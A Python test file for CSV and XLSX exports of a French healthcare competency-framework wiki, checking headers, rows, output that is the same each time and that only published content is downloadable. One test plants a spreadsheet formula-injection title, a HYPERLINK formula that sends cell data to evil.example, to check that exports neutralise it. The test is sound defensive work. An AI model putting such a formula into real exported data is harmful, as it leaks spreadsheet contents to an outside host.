"""CSV and XLSX downloads of a référentiel: one competency a row, French headers, inert cells,
the same bytes for the same content, and only what the public may read."""

import csv
import io
import time
import zipfile

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from wiki.exports.csv import referentiel_csv
from wiki.exports.xlsx import referentiel_xlsx
from wiki.models import CompetencyPage, ReferentielPage
from wiki.snapshots import referentiel_snapshot_live
from wiki.spreadsheets import FORMULA_START

pytestmark = pytest.mark.django_db

SOCLE = "socle-numerique-en-sante"
HEADER = [
    "Référentiel",
    "Code du domaine",
    "Domaine",
    "Code de la compétence",
    "Compétence",
    "Énoncé",
    "Rang",
    "Acquis d'apprentissage",
    "Modalités d'évaluation",
    "Compétences du socle déclinées",
]


def _snapshot():
    return referentiel_snapshot_live(ReferentielPage.objects.get(slug=SOCLE))


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the BOM: Excel then reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _publish_hostile_title(code: str, title: str) -> None:
    page = CompetencyPage.objects.get(code=code)
    page.title = title
    page.save_revision(user=get_user_model().objects.get(username="copil")).publish()


def _publish_radiology() -> ReferentielPage:
    """The radiology pilot published, with its whole subtree (it is a draft in the seed)."""
    radiology = ReferentielPage.objects.get(specialty__slug="radiologie-et-imagerie-medicale")
    for page in [radiology, *radiology.get_descendants().order_by("path")]:
        page.specific.get_latest_revision().publish()
    return ReferentielPage.objects.get(pk=radiology.pk)


def test_the_csv_has_one_row_per_published_competency_with_french_headers(client):
    radiology = _publish_radiology()
    response = client.get(f"/referentiels/{radiology.slug}/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{radiology.slug}.csv"'
    rows = _csv_rows(response.content)
    assert rows[0] == HEADER
    snapshot = referentiel_snapshot_live(radiology)
    assert [row[3] for row in rows[1:]] == [c.code for c in snapshot.competencies]
    assert len(rows) - 1 == CompetencyPage.objects.descendant_of(radiology).count()
    domain = snapshot.domains[0]
    competency = next(c for c in snapshot.competencies if c.learning_outcomes and c.socle_refs)
    row = next(row for row in rows if row[3] == competency.code)
    assert row[0] == radiology.title
    assert row[4] == competency.title
    assert row[5] == competency.statement
    assert row[6] == competency.rank
    assert row[7].split("\n") == list(competency.learning_outcomes)
    assert row[8].split("\n") == list(competency.evaluation_methods)
    assert row[9].split(", ") == list(competency.socle_refs)
    assert rows[1][1:3] == [domain.code, domain.title]


def test_the_xlsx_holds_the_same_table():
    workbook = load_workbook(io.BytesIO(referentiel_xlsx(_snapshot())))
    sheet = workbook.worksheets[0]
    rows = [[cell if cell is not None else "" for cell in row] for row in sheet.values]
    assert rows == _csv_rows(referentiel_csv(_snapshot()))


def test_no_cell_can_become_a_formula():
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    _publish_hostile_title("SOCLE-D1-C01", hostile)
    _publish_hostile_title("SOCLE-D1-C02", "+1+1")
    snapshot = _snapshot()
    for row in _csv_rows(referentiel_csv(snapshot)):
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    workbook = load_workbook(io.BytesIO(referentiel_xlsx(snapshot)))
    titles = []
    for row in workbook.worksheets[0].iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        titles.append(row[4].value)
    assert "'" + hostile in titles
    assert "'+1+1" in titles


def test_exporting_twice_gives_the_same_bytes():
    first_csv, first_xlsx = referentiel_csv(_snapshot()), referentiel_xlsx(_snapshot())
    time.sleep(2.1)  # zip entries are dated to two seconds: a clock-dated file would differ
    assert referentiel_csv(_snapshot()) == first_csv
    second_xlsx = referentiel_xlsx(_snapshot())
    assert second_xlsx == first_xlsx
    archive = zipfile.ZipFile(io.BytesIO(second_xlsx))
    dates = {info.date_time for info in archive.infolist()}
    assert len(dates) == 1
    properties = load_workbook(io.BytesIO(second_xlsx)).properties
    assert properties.modified == properties.created


def test_unpublished_referentiels_are_not_downloadable(client):
    pilot = ReferentielPage.objects.exclude(slug=SOCLE).filter(live=False).first()
    for extension in ("csv", "xlsx"):
        assert client.get(f"/referentiels/{pilot.slug}/export.{extension}").status_code == 404


def test_the_referentiel_page_links_every_download(client):
    page = ReferentielPage.objects.get(slug=SOCLE)
    html = client.get(page.url).content.decode()
    for extension in ("pdf", "csv", "xlsx", "json"):
        assert f"/referentiels/{SOCLE}/export.{extension}" in html
